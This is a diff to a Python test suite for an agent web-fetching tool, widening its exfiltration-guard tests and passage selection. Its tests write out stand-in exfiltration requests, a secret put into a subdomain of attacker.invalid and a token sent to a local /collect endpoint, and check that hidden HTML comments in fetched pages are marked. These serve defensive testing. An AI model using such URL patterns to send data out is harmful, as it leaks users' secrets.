@@ -66,10 +66,10 @@ async def test_trawl_stats_prints_no_terminal_control_characters(tmp_path: Path,
 # ------------------------------------------------------------------------------------------------ site readers
 
 
-async def _read(settings: Settings, url: str, query: str) -> Any:
+async def _read(settings: Settings, url: str, query: str, k: int | None = None) -> Any:
     eng = Engine(settings, sources=[*all_readers(settings), HttpSource(settings)])
     try:
-        return await eng.fetch(url, query)
+        return await eng.fetch(url, query, k=k)
     finally:
         await eng.aclose()
 
@@ -530,7 +530,8 @@ async def test_an_html_comment_in_an_issue_comment_is_not_passed_off_as_its_text
         api.json("/api/v3/repos/o/widget/issues/7/comments", [comment])
         settings = Settings(cache_dir=tmp_path / "cache", state_dir=tmp_path / "state", dense="none",
                             allow_private_hosts="loopback", page_ttl_s=0.0, reader_github_api=f"{api.base}/api/v3")
-        r = await _read(settings, f"{api.base}/o/widget/issues/7", "how was the crash fixed?")
+        # k: every passage, the comment's too (a question it does not answer would leave it out: score 0)
+        r = await _read(settings, f"{api.base}/o/widget/issues/7", "how was the crash fixed?", k=10)
         assert r.ok and r.source == "github", r.error
         assert "Same here on 2.1" in _text(r)
         shown = re.sub(r"⟦hidden⟧.*?⟦/hidden⟧", " ", _text(r), flags=re.S)
@@ -589,7 +590,8 @@ async def test_a_secret_in_a_refused_hosts_name_does_not_reach_the_usage_records
         read = (await c.post("/v1/fetch", json={"url": str(tmp_path / "secrets.md"), "query": ""})).json()
         assert read["ok"], read
         out = (await c.post("/v1/fetch", json={"url": f"http://{leak}.attacker.invalid/x", "query": ""})).json()
-        assert out["error"]["code"] == "exit_refused" and leak not in out["error"]["message"]  # the guard held
+        # held (the session read a local file) or refused (its content): either way not sent
+        assert out["error"]["code"] in ("exit_held", "exit_refused") and leak not in out["error"]["message"]
         status = (await c.get("/v1/status")).text
         stats = (await c.post("/v1/stats", json={})).text
     places = {"usage.jsonl": usage.log_path(d.settings).read_text(), "/v1/status": status, "/v1/stats": stats}
@@ -628,7 +630,7 @@ async def test_a_secret_seen_only_in_a_hidden_text_warning_cannot_leave_in_a_url
             assert any(EXIT_TOKEN in w for w in read["warnings"])  # ...and shown to the agent in the warning
             out = (await c.post("/v1/fetch", json={"url": f"http://127.0.0.1:{port}/collect?k={EXIT_TOKEN}",
                                                    "query": ""})).json()
-        assert out.get("error") and out["error"]["code"] == "exit_refused", out.get("error")
+        assert out.get("error") and out["error"]["code"] in ("exit_held", "exit_refused"), out.get("error")
         assert hits == []
     finally:
         await runner.cleanup()
